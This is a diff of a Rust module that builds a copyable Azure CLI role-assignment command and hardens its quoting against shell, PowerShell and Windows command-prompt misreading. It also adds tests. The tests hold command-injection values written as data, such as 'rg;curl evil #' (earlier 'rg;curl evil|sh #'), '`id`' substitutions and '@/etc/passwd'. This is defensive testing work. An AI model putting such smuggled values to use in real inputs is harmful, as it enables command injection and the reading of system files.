@@ -2,11 +2,12 @@
 
 use super::filled;
 use crate::rules::rule::{Rule, Seen};
+use greenlight_json::unseen::is_unseen;
 
 /// The command of a template, with its `{words}` filled in; none without a template.
 ///
 /// # Errors
-/// Why there is none: a name that no quotation marks keep whole in POSIX shells and PowerShell alike.
+/// Why there is none: a name that POSIX shells, PowerShell and the Azure CLI behind them do not all take as it is.
 pub(super) fn command(template: Option<&str>, seen: &Seen) -> Result<Option<String>, String> {
     let Some(template) = template else { return Ok(None) };
     if template == Rule::COMMANDS_OF_FINDING {
@@ -22,9 +23,10 @@ pub(super) fn command(template: Option<&str>, seen: &Seen) -> Result<Option<Stri
             continue;
         }
         let word = filled(word, seen);
-        let Some(mark) = mark(&word) else {
-            return Err(format!("there is no command to copy: no shell would take `{word}` as it is"));
-        };
+        if let Some(reason) = misread(&word) {
+            return Err(format!("there is no command to copy: {reason}"));
+        }
+        let mark = mark(&word);
         command.push_str(mark);
         command.push_str(&word);
         command.push_str(mark);
@@ -32,24 +34,35 @@ pub(super) fn command(template: Option<&str>, seen: &Seen) -> Result<Option<Stri
     Ok(Some(command))
 }
 
-/// The quotation mark that a word needs on both sides, or none; nothing where no mark helps.
-fn mark(word: &str) -> Option<&'static str> {
-    let plain = |letter: char| letter.is_ascii_alphanumeric() || "_./:-+=".contains(letter);
+/// Why a word would not reach its program as it is, whatever is done about it; nothing where quotation marks are enough.
+fn misread(word: &str) -> Option<String> {
+    // On Windows `az` is a batch file: what PowerShell hands on without quotation marks of its own is read once more, between parentheses.
+    const PROMPT: &str = "&|<>^%!()";
     // The typographic ones are quotation marks to PowerShell as well.
-    let breaks = |letter: char| {
-        letter.is_control() || letter == '\'' || letter == '"' || ('\u{2018}'..='\u{201e}').contains(&letter)
-    };
-    if word.chars().any(breaks) || word.starts_with('-') || word.ends_with('\\') {
-        return None;
+    let marks = |letter: char| matches!(letter, '\'' | '"') || ('\u{2018}'..='\u{201e}').contains(&letter);
+    if word.chars().any(is_unseen) {
+        return Some(format!("`{word}` holds a character that is not seen and would not be copied as it is"));
     }
-    if word.is_empty() {
-        return Some("\"");
+    if word.contains(marks) || word.ends_with('\\') {
+        return Some(format!("no shell would take `{word}` as it is"));
     }
+    if let Some(letter) = word.chars().find(|letter| PROMPT.contains(*letter)) {
+        return Some(format!(
+            "on Windows the Azure CLI is started by the command prompt, which would not take the `{letter}` in `{word}` as it is"
+        ));
+    }
+    let told = word.is_empty() || word.starts_with(['-', '@']);
+    told.then(|| format!("the Azure CLI would not take `{word}` for a name"))
+}
+
+/// The quotation mark that a word needs on both sides, or none.
+fn mark(word: &str) -> &'static str {
+    let plain = |letter: char| letter.is_ascii_alphanumeric() || "_./:-+=".contains(letter);
     if word.chars().all(plain) {
-        return Some("");
+        return "";
     }
     // The command prompt of Windows knows no others.
-    Some(if word.chars().all(|letter| plain(letter) || letter == ' ' || letter == '@') { "\"" } else { "'" })
+    if word.chars().all(|letter| plain(letter) || letter == ' ' || letter == '@') { "\"" } else { "'" }
 }
 
 #[cfg(test)]
@@ -70,16 +83,36 @@ mod tests {
         for (role, group, command) in [
             ("Reader", "rg-net", "--role Reader --scope /groups/rg-net"),
             ("Network Contributor", "rg-net", "--role \"Network Contributor\" --scope /groups/rg-net"),
-            ("Reader", "rg;curl evil|sh #", "--role Reader --scope '/groups/rg;curl evil|sh #'"),
-            ("Reader", "$(id) `id` %PATH%", "--role Reader --scope '/groups/$(id) `id` %PATH%'"),
-            ("Reader", "Größe", "--role Reader --scope '/groups/Größe'"),
+            ("Reader", "rg;curl evil #", "--role Reader --scope '/groups/rg;curl evil #'"),
+            ("Reader", "$HOME `id` ~", "--role Reader --scope '/groups/$HOME `id` ~'"),
+            ("Reader", "Größe 財務 é", "--role Reader --scope '/groups/Größe 財務 é'"),
         ] {
             assert_eq!(with(role, group).unwrap(), format!("az role assignment create {command}"));
         }
-        for group in ["it's", "a\"b", "line\nfeed", "\u{2019}", "ends\\"] {
-            assert!(with("Reader", group).unwrap_err().contains(group));
+    }
+
+    #[test]
+    fn what_no_quotation_mark_keeps_whole_is_no_command() {
+        let check = |role: &str, group: &str, reason: &str| {
+            let said = with(role, group).unwrap_err();
+            assert!(said.contains(group) && said.contains(reason), "{said}");
+        };
+        for group in ["it's", "a\"b", "\u{2019}", "ends\\"] {
+            check("Reader", group, "no shell");
         }
-        assert!(with("--help", "rg-net").is_err());
+        for letter in
+            "\n\r\t\u{1b}\u{7f}\u{9b}\u{ad}\u{34f}\u{202e}\u{200b}\u{2028}\u{fe0f}\u{e000}\u{ffff}\u{e0041}"
+                .chars()
+        {
+            check("Reader", &format!("rg{letter}net"), "not seen");
+        }
+        for letter in "&|<>^%!()".chars() {
+            check("Reader", &format!("rg{letter}calc"), "command prompt");
+            check("Reader", &format!("rg {letter} calc"), "command prompt");
+        }
+        for role in ["--help", "@/etc/passwd", ""] {
+            check(role, "", "for a name");
+        }
     }
 
     /// The words of a line, as a POSIX shell reads them that expands nothing.
@@ -101,12 +134,22 @@ mod tests {
         words
     }
 
+    /// Names of all letters there are, more often of those that something reads otherwise.
+    fn names() -> impl Strategy<Value = String> {
+        let odd = " '\"`$&|<>^%!()@-\\;#*?~,\n\r\t\u{1b}\u{9b}\u{34f}\u{202e}\u{2066}\u{200b}\u{2019}\u{201c}\u{fe0f}\u{e000}\u{e0041}";
+        let odd = prop::sample::select(odd.chars().collect::<Vec<_>>());
+        let letters = prop_oneof![4 => prop::char::range('a', 'z'), 1 => odd, 1 => any::<char>()];
+        prop::collection::vec(letters, 0..8).prop_map(String::from_iter)
+    }
+
     proptest! {
         #[test]
-        fn a_shell_reads_the_words_that_are_meant(role in any::<String>(), group in any::<String>()) {
+        fn a_shell_reads_the_words_that_are_meant(role in names(), group in names()) {
             if let Ok(command) = with(&role, &group) {
                 let scope = format!("/groups/{group}");
                 prop_assert_eq!(words(&command), ["az", "role", "assignment", "create", "--role", &role, "--scope", &scope]);
+                // No renderer shows it otherwise, and the command prompt finds nothing of its own in it.
+                prop_assert!(!command.contains(is_unseen) && !command.contains(['&', '|', '<', '>', '^', '%', '!', '(', ')']));
             }
         }
     }
